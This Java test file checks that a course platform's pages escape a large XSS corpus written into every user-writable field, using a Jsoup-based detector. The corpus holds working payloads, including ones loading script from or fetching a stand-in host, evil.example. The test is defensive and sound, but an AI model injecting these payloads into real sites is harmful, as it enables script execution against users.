package org.knowmad.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.vertx.core.Vertx;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.HttpMethod;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.HttpResponse;
import io.vertx.junit5.VertxExtension;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.knowmad.account.AccountStore;
import org.knowmad.support.ApiUser;
import org.knowmad.support.Await;
import org.knowmad.support.Browser;
import org.knowmad.support.Fixtures;
import org.knowmad.support.MutableClock;
import org.knowmad.support.TestNode;

/**
 * A broad XSS corpus written into every field a participant (or an organiser) can fill, and every page that
 * shows it parsed: no {@code <script>} we did not write, no event-handler attribute, no {@code javascript:} (or
 * {@code vbscript:}, {@code data:text/html}) URL, no frame, object, embed or base element, no htmx attribute
 * that would run or fetch something chosen by the writer. The browser-level probe (Chromium, also without the
 * CSP) found nothing; this keeps the server-side half of that in {@code mvn verify}.
 */
@ExtendWith(VertxExtension.class)
class XssCorpusHttpTest {

    /** The payloads: script tags, event handlers, URL schemes, SVG, broken tags, Markdown tricks, breakouts, unicode. */
    static final List<String> CORPUS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"x\" onerror=\"alert(1)\"/>",
            "<body onload=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"0\" y=\"20\">x</text></a></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "<object data=\"javascript:alert(1)\">",
            "<embed src=\"javascript:alert(1)\">",
            "<base href=\"//evil.example/\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<a href=\"javascript:alert(1)\">click</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">entities</a>",
            "<a href=\" JaVaScRiPt:alert(1)\">case</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
            "<a href=\"vbscript:msgbox(1)\">vb</a>",
            "<form action=\"javascript:alert(1)\"><button>go</button></form>",
            "<button formaction=\"javascript:alert(1)\">x</button>",
            "<input autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<div style=\"background:url(javascript:alert(1))\">",
            "<div hx-get=\"//evil.example\" hx-trigger=\"load\">htmx</div>",
            "<div hx-on:click=\"alert(1)\">htmx on</div>",
            "<img src=x onerror=alert(1)//",
            "<img/src=x/onerror=alert(1)>",
            "<<script>alert(1);//<</script>",
            "</textarea><script>alert(1)</script>",
            "</title><script>alert(1)</script>",
            "\"><script>alert(1)</script>",
            "'><img src=x onerror=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "' onmouseover='alert(1)",
            "`><img src=x onerror=alert(1)>",
            "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
            "<![CDATA[<script>alert(1)</script>]]>",
            "[click](javascript:alert(1))",
            "[click](JAVASCRIPT:alert(1))",
            "[click](  javascript:alert(1)  )",
            "[click](&#106;avascript:alert(1))",
            "[click](javascript&#58;alert(1))",
            "![img](javascript:alert(1))",
            "![img](x \"onerror=alert(1)\")",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[a]: javascript:alert(1)\n\n[ref][a]",
            "<javascript:alert(1)>",
            "`<script>alert(1)</script>`",
            "```\n</code></pre><script>alert(1)</script>\n```",
            "**<img src=x onerror=alert(1)>**",
            "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
            "@<img src=x onerror=alert(1)>",
            "@fuzz\"><script>alert(1)</script>",
            "\u003cscript\u003ealert(1)\u003c/script\u003e",
            "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
            "\u202Egnp.exe<script>alert(1)</script>",
            "<scr\u200Bipt>alert(1)</scr\u200Bipt>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "{{constructor.constructor('alert(1)')()}}",
            "{{{title}}}<script>alert(1)</script>",
            "${alert(1)}",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            // Also in the corpus of the first version of this test:
            "<iframe src=javascript:alert(1)></iframe>",
            "<a href=\" &#14;  javascript:alert(1)\">x</a>",
            "![x](x\" onerror=\"alert(1))",
            "[x](https://ok.example \"title\\\" onmouseover=alert(1) x=\\\"\")",
            "\" autofocus onfocus=alert(1) x=\"",
            "<style>@import 'javascript:alert(1)'</style>",
            "<video><source onerror=alert(1)></video>",
            "<img src=x:alert(alt) onerror=eval(src) alt=1>",
            "javascript:alert(1)",
            "<x onclick=alert(1)>click");

    static final Instant WEEK_3_OPEN = Instant.parse("2030-03-18T08:00:00Z");
    static final Instant SUBMIT_BY = Instant.parse("2030-03-22T08:00:00Z");
    static final Instant CAFE_WEEK_1 = Instant.parse("2030-09-03T10:00:00Z");
    static final Instant CAFE = Instant.parse("2030-09-16T11:00:00Z");
    static final String ASSIGNMENT = "/courses/demo/spring/modules/week-3/assignment";
    static final String MEETUP = "/courses/cafe/autumn/meetup";

    private static TestNode node;
    private static MutableClock clock;
    private static final List<String> FIELDS = new ArrayList<>();
    private static int pages;
    private static int tries;

    @BeforeAll
    static void start(Vertx vertx) {
        clock = new MutableClock(Fixtures.SPRING_DAY_2);
        node = TestNode.demo(vertx, clock);
    }

    @AfterAll
    static void stop() {
        node.close();
    }

    @Test
    void noPayloadBecomesExecutableMarkupAnywhere() {
        discussion();
        assignment();
        meetup();
        System.out.println("xss corpus: " + CORPUS.size() + " payloads x " + FIELDS.size() + " fields " + FIELDS + " = " + tries
                + " tries, " + pages + " pages parsed, 0 executable");
        assertTrue(FIELDS.containsAll(List.of("thread title", "post body", "display name", "submission", "review comment", "live question",
                "table note", "search query", "@mention")), "every field a participant writes is covered: " + FIELDS);
    }

    /** Thread title, post body, @mention, display name and search query, on the module, thread, people and search pages. */
    private void discussion() {
        ApiUser ada = ApiUser.joined(node, clock, "ada@example.org", "spring");
        ApiUser.joined(node, clock, "fuzz@example.org", "spring");
        Browser reader = node.browser().signIn("fuzz@example.org");
        Browser writer = node.browser().signIn("ada@example.org");
        long adaId = ada.call(HttpMethod.GET, "/api/v1/me", null).bodyAsJsonObject().getLong("id");
        List<Long> threads = new ArrayList<>();
        for (String payload : CORPUS) {
            clock.advance(Duration.ofSeconds(15)); // two posts each: under the ten a minute anyone may write
            HttpResponse<Buffer> t = ada.call(HttpMethod.POST, "/api/v1/courses/demo/spring/modules/week-1/threads",
                    new JsonObject().put("title", payload).put("body", payload + "\n\nFor @fuzz and @" + payload));
            assertEquals(201, t.statusCode(), payload + ": " + t.bodyAsString());
            long id = t.bodyAsJsonObject().getLong("id");
            threads.add(id);
            HttpResponse<Buffer> reply = ada.call(HttpMethod.POST, "/api/v1/threads/" + id + "/posts", new JsonObject().put("body", payload));
            assertTrue(reply.statusCode() < 300, payload + ": " + reply.bodyAsString());
            // The display name: no page edits it yet (it comes from the course file or a walk-in), so set it as those do.
            Await.await(new AccountStore().updateProfile(node.app.pool(), adaId, payload, "en"));
            check(payload, reader.get("/courses/demo/spring/threads/" + id), "thread title, post body, reply, @mention, display name");
            check(payload, reader.get("/courses/demo/spring/people/ada"), "display name on the people page");
            check(payload, writer.get("/courses/demo/spring/search?q=" + URLEncoder.encode(payload, StandardCharsets.UTF_8)), "search query");
            tries += 6;
        }
        check("all titles", reader.get("/courses/demo/spring/modules/week-1"), "the module's thread list");
        check("all titles", reader.get("/courses/demo/spring/search?q=alert"), "search results");
        check("all titles", reader.get("/courses/demo/spring"), "the cohort page");
        check("all titles", reader.get("/me"), "my courses");
        FIELDS.addAll(List.of("thread title", "post body", "reply", "@mention", "display name", "search query"));
    }

    /** A submission and a review comment, as the reviewer and the author see them. */
    private void assignment() {
        clock.set(WEEK_3_OPEN.plus(Duration.ofHours(1)));
        ApiUser author = ApiUser.create(node, clock, "ada@example.org");
        ApiUser reviewer = ApiUser.create(node, clock, "fuzz@example.org");
        String api = "/api/v1" + ASSIGNMENT;
        assertEquals(200, author.call(HttpMethod.PUT, api + "/submission", new JsonObject().put("text", "A first version of the work.")).statusCode());
        assertEquals(200, reviewer.call(HttpMethod.PUT, api + "/submission", new JsonObject().put("text", "The reviewer's own work.")).statusCode());
        Browser authorPage = node.browser().signIn("ada@example.org");
        for (String payload : CORPUS) {
            HttpResponse<Buffer> r = author.call(HttpMethod.PUT, api + "/submission", new JsonObject().put("text", payload));
            assertEquals(200, r.statusCode(), payload + ": " + r.bodyAsString());
            check(payload, authorPage.get(ASSIGNMENT), "submission, as its author sees it");
            tries++;
        }
        clock.set(SUBMIT_BY.plus(Duration.ofHours(1)));
        HttpResponse<Buffer> claim = reviewer.call(HttpMethod.POST, api + "/next-review", null);
        assertEquals(200, claim.statusCode(), claim.bodyAsString());
        long review = claim.bodyAsJsonObject().getLong("id");
        Browser reviewerPage = node.browser().signIn("fuzz@example.org");
        for (String payload : CORPUS) {
            String comment = payload + " - and a clear story about the practice, with one concrete next step to try.";
            HttpResponse<Buffer> saved = reviewer.call(HttpMethod.PUT, "/api/v1/reviews/" + review, new JsonObject()
                    .put("scores", new JsonObject().put("clarity", 1).put("depth", 1)).put("comment", comment));
            assertEquals(200, saved.statusCode(), payload + ": " + saved.bodyAsString());
            check(payload, reviewerPage.get(ASSIGNMENT + "/reviews/" + review), "submission and review comment, as the reviewer sees them");
            tries++;
        }
        check("last comment", node.browser().signIn("fac@example.org").get(ASSIGNMENT + "/submissions"), "the facilitator's submissions");
        FIELDS.addAll(List.of("submission", "review comment"));
    }

    /** A live question and a table note, in the live room, the control room and the harvest. */
    private void meetup() {
        clock.set(CAFE_WEEK_1);
        String api = "/api/v1" + MEETUP;
        List<ApiUser> people = new ArrayList<>();
        for (String email : List.of("m0@example.org", "m1@example.org")) {
            ApiUser u = ApiUser.create(node, clock, email);
            assertEquals(200, u.call(HttpMethod.POST, "/api/v1/courses/cafe/autumn/enrolment", new JsonObject().put("acceptGuidelines", true)).statusCode());
            assertEquals(200, u.call(HttpMethod.POST, api + "/registration", null).statusCode());
            people.add(u);
        }
        ApiUser org = ApiUser.create(node, clock, "org@example.org");
        for (int i = 0; i < 3; i++) { // the café's three questions, titled by the organiser
            assertEquals(201, org.call(HttpMethod.POST, api + "/agenda", new JsonObject().put("title", CORPUS.get(i * 7))).statusCode());
        }
        assertEquals(200, people.get(0).call(HttpMethod.PUT, api + "/choice", new JsonObject().put("table", 1)).statusCode());
        clock.set(CAFE.plus(Duration.ofMinutes(10)));
        assertEquals(201, org.call(HttpMethod.POST, api + "/rounds", new JsonObject().put("minutes", 40)).statusCode());
        Browser participant = node.browser().signIn("m0@example.org");
        Browser organiser = node.browser().signIn("org@example.org");
        for (String payload : CORPUS) {
            clock.advance(Duration.ofSeconds(15));
            HttpResponse<Buffer> q = people.get(0).call(HttpMethod.POST, api + "/live/questions", new JsonObject().put("body", payload));
            assertEquals(201, q.statusCode(), payload + ": " + q.bodyAsString());
            HttpResponse<Buffer> note = people.get(0).call(HttpMethod.POST, api + "/notes", new JsonObject().put("body", payload));
            assertEquals(201, note.statusCode(), payload + ": " + note.bodyAsString());
            tries += 2;
        }
        check("all", participant.get(MEETUP), "the meetup page");
        check("all", participant.get(MEETUP + "/live"), "the live room");
        check("all", organiser.get(MEETUP + "/control"), "the control room");
        check("all", organiser.get(MEETUP + "/harvest"), "the harvest (organiser's draft)");
        FIELDS.addAll(List.of("live question", "table note", "café question title"));
    }

    /** Fails if the page holds markup that would run, fetch or navigate by a writer's choice. */
    private static void check(String payload, HttpResponse<Buffer> page, String where) {
        assertEquals(200, page.statusCode(), where + " for " + payload);
        pages++;
        String found = executable(page.bodyAsString());
        assertEquals(null, found, where + " with payload " + payload);
    }

    private static final List<String> URL_ATTRIBUTES = List.of("href", "src", "action", "formaction", "xlink:href", "data", "poster",
            "background", "cite", "srcset", "ping", "lowsrc", "dynsrc", "codebase", "content");

    /** The first piece of executable markup in a page we did not write, or null. */
    static String executable(String html) {
        Document doc = Jsoup.parse(html);
        for (Element e : doc.getAllElements()) {
            String tag = e.tagName().toLowerCase(Locale.ROOT);
            String what = e.outerHtml().substring(0, Math.min(160, e.outerHtml().length()));
            // Ours are files from our own origin, never inline text.
            if (tag.equals("script") && (!e.attr("src").startsWith("/") || e.attr("src").startsWith("//") || !e.data().isBlank())) {
                return "a script we did not write: " + what;
            }
            if (List.of("iframe", "frame", "object", "embed", "base", "applet").contains(tag)) return "an element that loads content: " + what;
            if (tag.equals("meta") && e.attr("http-equiv").equalsIgnoreCase("refresh")) return "a refresh: " + what;
            if (tag.equals("style") && (e.data().toLowerCase(Locale.ROOT).contains("javascript:") || e.data().contains("expression("))) {
                return "script in a style sheet: " + what;
            }
            for (Attribute a : e.attributes()) {
                String name = a.getKey().toLowerCase(Locale.ROOT);
                // Browsers ignore whitespace and control characters inside a URL scheme.
                String value = a.getValue().replaceAll("[\\x00-\\x20\\u200B]", "").toLowerCase(Locale.ROOT);
                if (name.startsWith("on") || name.startsWith("hx-on") || name.startsWith("data-hx-on")) return "an event handler: " + what;
                // Only attributes a browser follows or loads; a form field's value="javascript:..." is just text.
                if (URL_ATTRIBUTES.contains(name) && (value.startsWith("javascript:") || value.startsWith("vbscript:") || value.startsWith("data:text/html"))) {
                    return "a script URL in " + name + ": " + what;
                }
                if (name.equals("style") && (value.contains("javascript:") || value.contains("expression("))) return "script in a style: " + what;
                if (List.of("hx-get", "hx-post", "hx-put", "hx-patch", "hx-delete").contains(name) && (!value.startsWith("/") || value.startsWith("//"))) {
                    return "htmx fetching elsewhere: " + what;
                }
            }
        }
        return null;
    }

    @Test
    void theCheckSeesWhatItLooksFor() {
        // A test of the test: the same payloads pasted into a page unescaped are caught.
        String page = "<html><head><script src=\"/assets/app.js\"></script></head><body><main>%s</main></body></html>";
        assertEquals(null, executable(String.format(page, "<p>Hello <a href=\"/courses/demo\">demo</a></p>")), "our own markup is fine");
        int caught = 0;
        for (String payload : CORPUS) if (executable(String.format(page, payload.replace("%", "%%"))) != null) caught++;
        for (String payload : List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
                "<svg onload=alert(1)>", "<iframe srcdoc=x>", "<div hx-get=\"//evil.example\">", "\"><img src=x onerror=alert(1)>")) {
            assertTrue(executable(String.format(page, payload)) != null, payload);
        }
        System.out.println("xss corpus: " + caught + " of " + CORPUS.size() + " payloads are caught when pasted unescaped");
        assertTrue(caught > CORPUS.size() / 2, caught + " caught");
    }
}
